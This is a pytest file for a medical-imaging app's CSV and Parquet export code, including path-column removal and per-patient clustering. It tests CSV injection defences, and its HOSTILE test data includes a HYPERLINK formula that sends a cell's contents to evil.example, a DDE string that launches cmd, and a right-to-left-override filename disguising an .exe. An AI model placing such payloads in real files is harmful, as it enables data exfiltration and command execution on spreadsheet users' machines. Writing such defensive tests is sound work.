"""core.export: spreadsheet-safe CSV, raw Parquet, columns that never leave the app, and each
patient's cluster."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from core.export import (
    MAX_CELL_CHARS,
    TRUNCATED,
    export_columns,
    labeled_export,
    patient_clusters,
    private_columns,
    to_csv_bytes,
    to_parquet_bytes,
)


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=cmd()", "'=cmd()"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@x", "'@x"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\n=1+1"),  # a carriage return becomes a line feed
        ("  =HYPERLINK(\"http://x\")", "'  =HYPERLINK(\"http://x\")"),
        ("Dilated cardiomyopathy", "Dilated cardiomyopathy"),
        ("a=b", "a=b"),
        ("I42.0", "I42.0"),
    ],
)
def test_csv_escapes_formula_like_text(text: str, written: str):
    rows = _csv_rows(to_csv_bytes(pd.DataFrame({"disease": [text]})))
    assert rows == [["disease"], [written]]


def test_csv_leaves_numbers_alone_including_negative():
    df = pd.DataFrame({
        "as_text": ["-2", "=1"],
        "as_int": [-2, 3],
        "as_float": [-2.5, np.nan],
        "nullable": pd.array([-7, None], dtype="Int64"),
        "mixed": pd.Series([-2, "-2"], dtype=object),
    })
    rows = _csv_rows(to_csv_bytes(df))
    assert rows == [
        ["as_text", "as_int", "as_float", "nullable", "mixed"],
        ["'-2", "-2", "-2.5", "-7", "-2"],
        ["'=1", "3", "", "", "'-2"],
    ]
    back = pd.read_csv(io.BytesIO(to_csv_bytes(df)))
    assert back["as_int"].tolist() == [-2, 3]
    assert back["as_float"].iloc[0] == -2.5


def test_csv_quotes_text_so_separators_stay_inside_the_cell():
    data = to_csv_bytes(pd.DataFrame({"note": ["a,b;=c", 'say "hi"'], "n": [1, 2]}))
    assert data.decode("utf-8").splitlines() == ['"note","n"', '"a,b;=c",1', '"say ""hi""",2']


def test_csv_escapes_headers_and_categoricals_and_keeps_every_row():
    df = pd.DataFrame({"=evil": pd.Categorical(["@a", "b", "@a"]), "ok": [1, 2, 3]})
    rows = _csv_rows(to_csv_bytes(df))
    assert rows == [["'=evil", "ok"], ["'@a", "1"], ["b", "2"], ["'@a", "3"]]
    assert df["=evil"].tolist() == ["@a", "b", "@a"]  # the caller's frame is not changed


def test_csv_utf8_with_optional_bom():
    df = pd.DataFrame({"patient": ["Zoë", "Łukasz"]})
    plain, with_bom = to_csv_bytes(df), to_csv_bytes(df, bom=True)
    assert with_bom == b"\xef\xbb\xbf" + plain
    assert pd.read_csv(io.BytesIO(with_bom), encoding="utf-8-sig")["patient"].tolist() == ["Zoë", "Łukasz"]


def test_parquet_round_trip_keeps_raw_values_and_dtypes():
    df = pd.DataFrame({
        "patient_id": ["p1", "p2", "p3"],
        "disease": ["=cmd()", "-2", None],
        "cluster": pd.array([0, None, 2], dtype="Int64"),
        "score": [-2.0, 0.5, np.nan],
        "created_at": pd.to_datetime(["2025-01-01", "2025-01-02", "2025-01-03"], utc=True),
    })
    back = pd.read_parquet(io.BytesIO(to_parquet_bytes(df)))
    pd.testing.assert_frame_equal(back, df)
    assert back["disease"].iloc[0] == "=cmd()"  # not escaped: Parquet is not a spreadsheet


def test_parquet_does_not_write_the_index():
    df = pd.DataFrame({"x": [1, 2]}, index=pd.Index(["a", "b"], name="row"))
    back = pd.read_parquet(io.BytesIO(to_parquet_bytes(df)))
    assert list(back.columns) == ["x"] and back.index.tolist() == [0, 1]


def test_export_columns_drops_absolute_paths_and_keeps_ids():
    df = pd.DataFrame({
        "image_id": ["abc-0", "def-0"],
        "sha256": ["abc", "def"],
        "patient_id": ["p1", "p2"],
        "path": ["/srv/data/a.png", "/srv/data/b.png"],
        "source_path": ["x", "y"],
        "copied_from": ["/home/ann/scans/a.dcm", "C:\\scans\\b.dcm"],
        "filename": ["a.png", "b.png"],
        "url": ["https://example.org/a", None],
        "text": ["/ 2 weeks of cough", "fever"],
        "age": [50, 60],
    })
    assert private_columns(df) == ["path", "source_path", "copied_from"]
    out = export_columns(df)
    assert list(out.columns) == ["image_id", "sha256", "patient_id", "filename", "url", "text", "age"]
    assert len(out) == 2
    assert "path" in df.columns  # the caller's frame is not changed


def test_export_columns_on_ingested_images(demo_dataset):
    images = demo_dataset.images
    out = export_columns(images)
    assert "path" in images.columns and "path" not in out.columns
    assert {"image_id", "patient_id", "sha256"} <= set(out.columns)
    assert len(out) == len(images)
    leaked = [v for column in out.columns for v in out[column] if isinstance(v, str) and v.startswith("/")]
    assert leaked == []


HOSTILE = {
    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "dde": "@SUM(1+1)*cmd|' /C calc'!A0",
    "rtl_name": "Jane \u202egnp.exe",
    "rtl_formula": "\u202e=1+1",
    "controls": "a\x00b\x07c\x1bd\x7fe\x85f",
    "crlf": "line1\r\nline2\rline3",
    "long": "x" * (MAX_CELL_CHARS + 5000),
}


def test_csv_neutralises_hostile_text_and_parquet_keeps_it():
    df = pd.DataFrame({"patient_id": list(HOSTILE), "name": list(HOSTILE.values()), "n": range(len(HOSTILE))})
    rows = {row[0]: row[1] for row in _csv_rows(to_csv_bytes(df))[1:]}
    assert rows["formula"].startswith("'=HYPERLINK")
    assert rows["dde"].startswith("'@SUM")
    assert rows["rtl_name"] == "Jane gnp.exe"
    assert rows["rtl_formula"] == "'=1+1"  # removing the override cannot unmask a formula
    assert rows["controls"] == "abcdef"
    assert rows["crlf"] == "line1\nline2\nline3"
    assert rows["long"] == "x" * MAX_CELL_CHARS + TRUNCATED
    text = to_csv_bytes(df).decode("utf-8")
    assert not any(ch in text for ch in ("\u202e", "\x00", "\x07", "\x1b", "\x7f", "\x85", "\r"))
    back = pd.read_parquet(io.BytesIO(to_parquet_bytes(df)))
    assert back["name"].tolist() == list(HOSTILE.values())  # Parquet keeps the values


def test_csv_neutralises_headers_too():
    rows = _csv_rows(to_csv_bytes(pd.DataFrame({"\u202e=evil\x00": [1]})))
    assert rows[0] == ["'=evil"]


def test_export_of_hostile_patients_has_no_path_columns_in_either_format(tmp_path, monkeypatch):
    monkeypatch.setenv("SCANATLAS_CACHE", str(tmp_path))
    patients = pd.DataFrame({
        "patient_id": ["p1", "p2"],
        "path": ["/srv/pacs/jane/1.dcm", "/srv/pacs/rick/2.dcm"],
        "source_path": ["/home/ann/a", "/home/ann/b"],
        "finding": ["=cmd()", "\u202enormal"],
    })
    for deidentify in (True, False):
        export = labeled_export(patients, ["p1", "p2"], np.array([0, 1]), None, deidentify=deidentify, is_admin=True)
        assert {"path", "source_path"}.isdisjoint(export.table.columns)
        assert {"path", "source_path"} <= set(export.left_out)
        for data in (to_csv_bytes(export.table), to_parquet_bytes(export.table)):
            assert b"/srv/pacs" not in data and b"/home/ann" not in data
        back = pd.read_parquet(io.BytesIO(to_parquet_bytes(export.table)))
        assert back["finding"].tolist() == ["=cmd()", "\u202enormal"]


def test_patient_clusters_takes_each_patients_majority_and_ignores_noise():
    ids = ["a", "a", "a", "b", "b", "c", "c", "d"]
    labels = np.array([2, 2, 1, 0, 3, -1, 5, -1])
    clusters = patient_clusters(ids, labels)
    assert clusters.to_dict() == {"a": 2, "b": 0, "c": 5}  # a tie goes to the lowest id; d is all noise
    assert patient_clusters(["x"], np.array([-1])).empty
    with pytest.raises(ValueError, match="2 labels for 1 rows"):
        patient_clusters(["x"], np.array([0, 1]))
